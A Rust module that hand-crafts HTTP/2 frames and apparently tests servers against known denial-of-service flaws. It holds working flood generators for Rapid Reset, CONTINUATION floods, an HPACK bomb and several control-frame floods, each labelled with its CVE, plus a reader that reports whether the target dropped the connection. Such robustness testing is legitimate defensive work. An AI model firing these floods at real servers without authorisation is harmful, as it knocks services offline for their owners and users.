//! HTTP/2 frames by hand: requests and floods that no library would send, and a reader of their
//! outcomes.

use serde_json::{Value as Json, json};
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

pub const DATA: u8 = 0;
pub const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
pub const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GOAWAY: u8 = 7;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;

pub const END_STREAM: u8 = 1;
pub const END_HEADERS: u8 = 4;

/// What became of two requests on one connection.
#[derive(Debug, Default)]
pub struct Fate {
    /// Of the first: its status, or `reset`; nothing if the connection ended before.
    pub first: Option<String>,
    /// True if the second one was answered.
    pub second: bool,
}

/// A frame (RFC 9113 §4.1).
pub fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// What a client begins with: the preface and its settings.
pub fn opening() -> Vec<u8> {
    [PREFACE, &frame(SETTINGS, 0, 0, &[])].concat()
}

/// Fields as they are, none indexed, none compressed (RFC 7541 §6.2.2). Each character is a byte.
pub fn block(fields: &Json) -> Vec<u8> {
    let mut block = Vec::new();
    for field in fields.as_array().unwrap() {
        block.push(0);
        for text in field.as_array().unwrap() {
            let bytes: Vec<u8> = text.as_str().unwrap().chars().map(|c| c as u8).collect();
            // 127 and more would need more bytes for the length.
            block.push(
                u8::try_from(bytes.len())
                    .ok()
                    .filter(|length| *length < 127)
                    .unwrap(),
            );
            block.extend(bytes);
        }
    }
    block
}

/// The frames of a request: fields, and perhaps data and trailers.
fn request(stream: u32, row: &Json) -> Vec<u8> {
    let (data, trailers) = (row["data"].as_str(), row.get("trailers"));
    let end = |last: bool| if last { END_STREAM } else { 0 };
    let last = data.is_none() && trailers.is_none();
    let mut frames = frame(
        HEADERS,
        END_HEADERS | end(last),
        stream,
        &block(&row["fields"]),
    );
    if let Some(data) = data {
        frames.extend(frame(
            DATA,
            end(trailers.is_none()),
            stream,
            data.as_bytes(),
        ));
    }
    if let Some(trailers) = trailers {
        frames.extend(frame(
            HEADERS,
            END_HEADERS | END_STREAM,
            stream,
            &block(trailers),
        ));
    }
    frames
}

/// Sends two requests at once and waits until both are over, or the connection is.
pub async fn exchange(
    mut stream: impl AsyncRead + AsyncWrite + Unpin,
    first: &Json,
    second: &Json,
) -> Fate {
    let bytes = [opening(), request(1, first), request(3, second)].concat();
    let mut fate = Fate::default();
    if stream.write_all(&bytes).await.is_err() || stream.flush().await.is_err() {
        return fate;
    }
    while fate.first.is_none() || !fate.second {
        let mut head = [0; 9];
        if stream.read_exact(&mut head).await.is_err() {
            break;
        }
        let [a, b, c, kind, _, number @ ..] = head;
        let mut payload = vec![0; u32::from_be_bytes([0, a, b, c]) as usize];
        if stream.read_exact(&mut payload).await.is_err() {
            break;
        }
        match (kind, u32::from_be_bytes(number)) {
            (HEADERS, 1) => fate.first = Some(status(&payload)),
            (RST_STREAM, 1) if fate.first.is_none() => fate.first = Some("reset".to_owned()),
            (HEADERS, 3) => fate.second = true,
            (GOAWAY, _) if payload.get(4..8) != Some(&[0; 4]) => break,
            _ => {}
        }
    }
    fate
}

/// What a flood is made of, after the connection has been opened.
pub enum Flood {
    /// Requests that are cancelled at once (CVE-2023-44487).
    Resets,
    /// A head that never ends (CVE-2024-27316).
    Continuations,
    /// A head of a few bytes that stands for many megabytes (CVE-2016-1544).
    Bomb,
    /// Settings, each of which wants an answer (CVE-2019-9515).
    Settings,
    /// Pings, each of which wants an answer (CVE-2019-9512).
    Pings,
    /// Priorities of streams that there are not (CVE-2019-9513).
    Priorities,
    /// Room for one byte more, again and again.
    WindowUpdates,
    /// A body of frames without a byte (CVE-2019-9518).
    EmptyData,
    /// Frames of an unknown type.
    Unknown,
}

/// Sends a flood, at most this many frames. Returns when the other side has closed the connection,
/// or all is sent and a request behind it answered (`false`).
pub async fn flood(stream: impl AsyncRead + AsyncWrite + Unpin, flood: Flood, frames: u32) -> bool {
    let fields = json!([
        [":method", "GET"],
        [":scheme", "https"],
        [":path", "/auth/login"],
        [":authority", "x"]
    ]);
    let head = block(&fields);
    let mut bytes = [PREFACE, &frame(SETTINGS, 0, 0, &[])].concat();
    match flood {
        Flood::Resets => {
            for stream in (1..).step_by(2).take(frames as usize) {
                bytes.extend(frame(HEADERS, END_HEADERS | END_STREAM, stream, &head));
                bytes.extend(frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
            }
        }
        Flood::Continuations => {
            bytes.extend(frame(HEADERS, END_STREAM, 1, &head));
            let more = block(&json!([["x", "y".repeat(100)]])).repeat(100);
            for _ in 0..frames {
                bytes.extend(frame(CONTINUATION, 0, 1, &more));
            }
        }
        Flood::Bomb => {
            // One field of 4000 bytes into the table (RFC 7541 §6.2.1, its length in §5.1), and
            // then only its number.
            let mut bomb = head.clone();
            bomb.extend([0x40, 1, b'x', 0x7f, 0xa1, 0x1e]);
            bomb.extend([b'y'; 4000]);
            bomb.extend([0xbe].repeat(12_000));
            for stream in (1..).step_by(2).take(frames as usize) {
                bytes.extend(frame(HEADERS, END_HEADERS | END_STREAM, stream, &bomb));
            }
        }
        Flood::Settings => bytes.extend(frame(SETTINGS, 0, 0, &[]).repeat(frames as usize)),
        Flood::Pings => bytes.extend(frame(PING, 0, 0, &[0; 8]).repeat(frames as usize)),
        Flood::Priorities => {
            bytes.extend(frame(PRIORITY, 0, 5, &[0, 0, 0, 0, 16]).repeat(frames as usize));
        }
        Flood::WindowUpdates => {
            bytes.extend(frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]).repeat(frames as usize));
        }
        Flood::EmptyData => {
            bytes.extend(frame(HEADERS, END_HEADERS, 1, &head));
            bytes.extend(frame(DATA, 0, 1, &[]).repeat(frames as usize));
        }
        Flood::Unknown => bytes.extend(frame(0x77, 0, 0, &[]).repeat(frames as usize)),
    }
    let last = 0x7fff_ffff;
    bytes.extend(frame(HEADERS, END_HEADERS | END_STREAM, last, &head));
    let (mut reading, mut writing) = tokio::io::split(stream);
    let sending = async {
        // An error: it has been closed.
        let _ = writing.write_all(&bytes).await;
        let _ = writing.flush().await;
        std::future::pending::<bool>().await
    };
    let hearing = async {
        loop {
            let mut head = [0; 9];
            if reading.read_exact(&mut head).await.is_err() {
                return true;
            }
            let [a, b, c, kind, _, number @ ..] = head;
            let mut payload = vec![0; u32::from_be_bytes([0, a, b, c]) as usize];
            if reading.read_exact(&mut payload).await.is_err() {
                return true;
            }
            if (kind, u32::from_be_bytes(number)) == (HEADERS, last) {
                return false;
            }
        }
    };
    tokio::select! {
        closed = hearing => closed,
        closed = sending => closed,
    }
}

/// The status at the beginning of a field block (RFC 7541 appendix A, and B for the digits).
fn status(block: &[u8]) -> String {
    // An update of the table's size may come first.
    let block = block
        .iter()
        .position(|b| b & 0xe0 != 0x20)
        .map_or(block, |at| &block[at..]);
    match *block {
        [indexed @ 0x88..=0x8e, ..] => ["200", "204", "206", "304", "400", "404", "500"]
            [usize::from(indexed - 0x88)]
        .to_owned(),
        [_, length, ref rest @ ..] if length < 0x80 => {
            String::from_utf8_lossy(&rest[..usize::from(length)]).into_owned()
        }
        [_, length, ref rest @ ..] => digits(&rest[..usize::from(length & 0x7f)]),
        _ => "?".to_owned(),
    }
}

/// Three digits in Huffman's code: 0 to 2 have five bits, 3 to 9 six, beginning with 011001.
fn digits(bytes: &[u8]) -> String {
    let mut bits = bytes
        .iter()
        .fold(0_u64, |bits, byte| bits << 8 | u64::from(*byte))
        << (64 - 8 * bytes.len());
    let mut text = String::new();
    while text.len() < 3 {
        let five = bits >> 59;
        let (digit, width) = if five < 3 {
            (five, 5)
        } else {
            ((bits >> 58) - 0b01_1001 + 3, 6)
        };
        text.push_str(&digit.to_string());
        bits <<= width;
    }
    text
}
